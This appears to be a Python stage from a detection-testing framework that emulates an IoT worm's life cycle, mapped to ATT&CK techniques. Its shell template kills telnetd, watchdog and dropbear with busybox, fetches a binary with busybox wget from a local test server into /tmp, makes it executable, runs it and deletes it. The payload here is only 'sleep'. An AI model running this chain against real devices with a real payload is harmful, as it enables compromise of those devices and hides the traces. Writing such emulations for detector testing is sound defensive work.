"""The life of an IoT worm from the first command to its own process, end to end.

Over a shell as telnet gives it: the watchdog is stopped and rivals are ended, a program (`sleep`)
comes from a server of our own on loopback, is made executable, runs, and its file is deleted. Each
step must be told but the last: from a root of its own a process has other paths than its files, and
`deleted binary` plays outside of one. Paths are whole: names relative to the working directory are
told by the tiers that know it, which `download and run` plays.
ATT&CK T1489, T1105, T1222.002, T1204.002, T1070.004. Cleanup: the throwaway root is removed.
"""

from __future__ import annotations

import shutil
from pathlib import Path

from vedette_dev.stage import Stage

TECHNIQUE = "T1105"
STEPS = (
    ("attack.t1489",),
    ("attack.t1105",),
    ("attack.t1222",),
    ("attack.t1204", "attack.t1059", "attack.t1036"),
)
NEEDS_ROOT = "programs that end at once are seen by the sources that root has"


def act(stage: Stage) -> str:
    sleep = Path(shutil.which("sleep") or "/bin/sleep").read_bytes()
    address, port = stage.serve(sleep)
    place = stage.random.choice(("/tmp", "/var/tmp", "/dev/shm"))
    program = f"{place}/{stage.word()}"
    return stage.type(
        f"""cd {place}
busybox killall -9 telnetd watchdog dropbear
busybox wget -q http://{address}:{port}/{stage.word()} -O {program}
chmod 777 {program}
{program} 5 &
sleep 0.2
rm -f {program}
"""
    )
